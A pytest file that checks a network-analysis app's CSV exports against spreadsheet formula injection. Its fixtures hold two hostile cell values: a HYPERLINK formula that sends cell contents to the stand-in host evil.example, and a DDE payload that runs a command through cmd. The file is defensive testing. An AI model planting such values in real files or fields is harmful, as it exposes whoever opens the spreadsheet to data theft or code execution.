"""CSV exports of the network analysis open safely in a spreadsheet.

A person's name and a team's name are typed by people; in ``people.csv`` (the
page) and in ``bridgework analyze --format csv`` (the CLI) a name that starts
like a formula must reach the spreadsheet as text. The expected cells follow
OWASP's "CSV Injection" advice (a single quote in front), written out by hand.
"""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from bridgework.analysis.services import analysis_start
from bridgework.cli.main import app

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.example/?"&A2&B2,"Open the report")'
TEAM = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plant_hostile_names(org) -> None:
    org.ada.full_name = NAME
    org.ada.save(update_fields=["full_name"])
    org.bo.team.name = TEAM
    org.bo.team.save(update_fields=["name"])
    run = analysis_start(run_now=True)
    assert run.status == "succeeded", run.error


def _cells_starting_a_formula(rows: list[list[str]]) -> list[str]:
    """Text cells a spreadsheet would run: starting like a formula and not a number."""

    def is_number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


def test_people_csv_neutralises_names_and_teams_that_look_like_formulas(client, org, analyst):
    _plant_hostile_names(org)
    client.force_login(analyst)
    response = client.get("/analysis/people.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, body = rows[0], rows[1:]
    by_label = {row[header.index("label")]: dict(zip(header, row, strict=True)) for row in body}
    assert "'" + NAME in by_label and NAME not in by_label
    ada = by_label["'" + NAME]
    assert ada["team"] == "Alpha"
    beta = [row for row in by_label.values() if row["team"] == "'" + TEAM]
    assert len(beta) == 6
    assert _cells_starting_a_formula(rows) == []
    # Numbers are still numbers: Ada's two-team tie counts, 5 inside Alpha and Bo.
    assert int(float(ada["degree"])) == 6


def test_analyze_writes_csv_tables_that_are_safe_to_open(org, tmp_path):
    _plant_hostile_names(org)
    out = tmp_path / "tables"
    result = CliRunner().invoke(
        app, ["analyze", "--skip-ties", "--out", str(out), "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    people = list(csv.reader((out / "people.csv").open(encoding="utf-8")))
    labels = [row[people[0].index("label")] for row in people[1:]]
    assert "'" + NAME in labels and NAME not in labels
    matrix = list(csv.reader((out / "matrix.csv").open(encoding="utf-8")))
    assert "'" + TEAM in matrix[0]
    for name in ("people", "groups", "matrix", "communities", "silos", "risk", "open_talent"):
        rows = list(csv.reader((out / f"{name}.csv").open(encoding="utf-8")))
        assert _cells_starting_a_formula(rows) == [], name
